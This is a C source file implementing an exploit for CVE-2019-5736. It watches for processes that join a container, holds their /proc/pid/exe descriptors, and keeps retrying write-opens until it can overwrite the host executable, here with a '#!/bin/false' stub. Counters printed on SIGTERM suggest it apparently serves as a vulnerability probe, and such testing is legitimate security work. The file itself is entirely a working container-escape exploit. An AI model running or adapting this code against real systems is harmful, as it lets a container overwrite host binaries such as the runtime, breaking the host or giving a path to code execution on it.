/* Waits for processes that join the container, and tries to write to their program (CVE-2019-5736).
 *
 * It opens the exe of every process that it has not seen, and goes on trying to open that descriptor for writing after
 * the process has become something else, which is when the kernel no longer says ETXTBSY. Whatever it catches is
 * written over. Prints "ready", and on SIGTERM how many programs it held and how many it could write to.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MOST 512

static volatile sig_atomic_t over;
static int held[MOST];
static struct stat seen[MOST];
static int count, written;

static void end(int signal)
{
	(void)signal;
	over = 1;
}

/* Keeps a program that is not yet held. */
static void hold(const char *pid)
{
	char path[64];
	struct stat stat;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &stat) == 0) {
		for (int i = 0; i < count; i++)
			if (seen[i].st_dev == stat.st_dev && seen[i].st_ino == stat.st_ino)
				goto known;
		if (count < MOST) {
			seen[count] = stat;
			held[count++] = fd;
			return;
		}
	}
known:
	close(fd);
}

static void attack(int fd)
{
	static const int ways[] = { O_WRONLY | O_TRUNC, O_RDWR, O_WRONLY | O_APPEND };
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (unsigned i = 0; i < sizeof(ways) / sizeof(*ways); i++) {
		int out = open(path, ways[i] | O_CLOEXEC);

		if (out < 0)
			continue;
		if (write(out, "#!/bin/false\n", 13) > 0)
			written++;
		close(out);
	}
}

int main(void)
{
	struct stat own;

	signal(SIGTERM, end);
	/* Our own program is the image's, which is ours to write. */
	if (stat("/proc/self/exe", &own) != 0 || stat("/bin/busybox", &seen[1]) != 0)
		return 1;
	seen[0] = own;
	held[0] = held[1] = -1;
	count = 2;
	puts("ready");
	fflush(stdout);
	while (!over) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc != NULL && (entry = readdir(proc)) != NULL)
			if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
				hold(entry->d_name);
		if (proc != NULL)
			closedir(proc);
		for (int i = 2; i < count; i++)
			attack(held[i]);
	}
	printf("held %d written %d\n", count - 2, written);
	return 0;
}
